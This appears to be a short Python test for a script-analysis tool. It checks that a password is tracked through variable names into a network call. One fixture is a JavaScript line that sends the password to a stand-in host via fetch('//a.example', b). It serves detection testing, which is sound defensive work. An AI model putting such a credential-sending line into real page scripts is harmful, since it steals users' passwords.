"""Names that have a password."""

from __future__ import annotations

from tests.client_scripts.test_script_analysis import TAKEN, channels


def test_a_password_is_followed_over_names() -> None:
    assert channels(TAKEN + 'a = p; b = "x" + a; fetch("//a.example", b);')
    assert not channels(TAKEN + 'a = p.length > 3; b = "x"; fetch("//a.example", b);')
